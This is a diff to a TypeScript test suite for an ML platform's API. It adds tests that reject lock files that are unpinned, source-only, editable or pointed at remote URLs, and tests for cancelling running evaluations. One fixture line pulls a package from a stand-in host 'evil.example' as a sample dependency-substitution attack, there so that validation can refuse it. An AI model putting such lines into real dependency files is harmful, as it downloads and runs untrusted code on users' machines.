@@ -91,7 +91,15 @@ describe('starting', () => {
   });
 
   test('from a run: commit resolved, files and data sets looked up', async () => {
-    const files = { 'train.py': 'print()', 'requirements.lock': '' };
+    const digest = `--hash=sha256:${'a'.repeat(64)}`;
+    const files = {
+      'train.py': 'print()',
+      'requirements.lock': `numpy==2.2.6 ${digest}\n`,
+      'address.lock': `numpy==2.2.6 ${digest}\nevil @ https://evil.example/evil.tar.gz ${digest}\n`,
+      'source.lock': `--no-binary :all:\nnumpy==2.2.6 ${digest}\n`,
+      'editable.lock': '-e .\n',
+      'loose.lock': 'numpy==2.2.6\n',
+    };
     const commit = { branch: 'main', message: 'training', files };
     const made = await json(world().ask('sam', 'POST', `/v1/projects/${PROJECT}/code/commits`, commit));
     const run = { commit: 'main', entrypoint: 'train.py', lock: 'requirements.lock', data: ['training-1'] };
@@ -106,11 +114,18 @@ describe('starting', () => {
       [{ entrypoint: 'other.py' }, 'no-such-file'],
       [{ data: ['missing'] }, 'no-such-data-set'],
       [{ data: ['test-1'] }, 'test-set'],
+      [{ lock: 'address.lock' }, 'improper-lock'],
+      [{ lock: 'source.lock' }, 'improper-lock'],
+      [{ lock: 'editable.lock' }, 'improper-lock'],
+      [{ lock: 'loose.lock' }, 'improper-lock'],
     ] as const) {
       const response = await ask('rf-10', change);
       expect([response.status, (await json(response))['type']]).toEqual([422, `urn:ocdl:problem:${word}`]);
     }
     expect(await world().deps.records.version(PROJECT, 'random-forest', 'rf-10')).toBeUndefined();
+    const refused = await json(ask('rf-10', { lock: 'address.lock' }));
+    expect(refused['detail']).toMatch(/address\.lock is not a proper .*: line 2: .*npm run lock -- requirements\.in/s);
+    expect(refused['errors']).toMatchObject([{ where: 'address.lock, line 2' }]);
   });
 
   test("a scientist's evaluation over a test set is refused, a manager's not, and a private one is its actor's alone", async () => {
@@ -132,6 +147,34 @@ describe('starting', () => {
     expect(await seen('mia')).toEqual(expect.not.arrayContaining(['private-3']));
     expect((await seen('sam')).sort()).toEqual(['ev-1', 'private-3']);
     expect(await seen('sid')).toEqual([]);
+  });
+
+  test('an evaluation is cancelled by who asked for it or a manager, and only while it runs', async () => {
+    const evaluations = `/v1/projects/${PROJECT}/evaluations`;
+    const of = { model: 'random-forest', dataset: 'test-1', subject: { submission: 'rf-1' }, deadlineSeconds: 60 };
+    const cancel = (who: string, id: string) => world().ask(who, 'DELETE', `${evaluations}/${id}`);
+    expect((await world().ask('mia', 'POST', evaluations, { evaluation: 'long-1', ...of })).status).toBe(201);
+    const { workflows, records } = world().deps;
+    expect(workflows.started.get(`evaluation/${PROJECT}/long-1`)).toMatchObject({ deadlineSeconds: 60 });
+    // The version's author sees it, but did not ask for it.
+    expect((await cancel('sam', 'long-1')).status).toBe(403);
+    expect((await cancel('sid', 'long-1')).status).toBe(403);
+    const cancelled = await cancel('mia', 'long-1');
+    expect([cancelled.status, await json(cancelled)]).toMatchObject([202, { evaluation: 'long-1' }]);
+    const mine = { ...of, dataset: 'training-1', subject: { directory: 'runs' } };
+    expect((await world().ask('sam', 'POST', evaluations, { evaluation: 'long-2', ...mine })).status).toBe(201);
+    expect((await cancel('mia', 'long-2')).status).toBe(404);
+    expect((await cancel('sam', 'long-2')).status).toBe(202);
+    expect(workflows.cancelled).toEqual([`evaluation/${PROJECT}/long-1`, `evaluation/${PROJECT}/long-2`]);
+    const { rows } = await records.audit({ subject: `${PROJECT}/evaluations/long-1` });
+    expect(rows.map(({ entry }) => `${entry.kind} ${entry.actor}`)).toContain('evaluation.cancel mia');
+    // One that has ended stays as it is.
+    expect((await cancel('mia', 'ev-1')).status).toBe(200);
+    expect(workflows.cancelled).toHaveLength(2);
+    for (const deadlineSeconds of [0, 86_401, 1.5])
+      expect((await world().ask('mia', 'POST', evaluations, { evaluation: 'x', ...of, deadlineSeconds })).status).toBe(
+        400,
+      );
   });
 
   test('a private test stands in the audit, but neither its directory nor its data set', async () => {
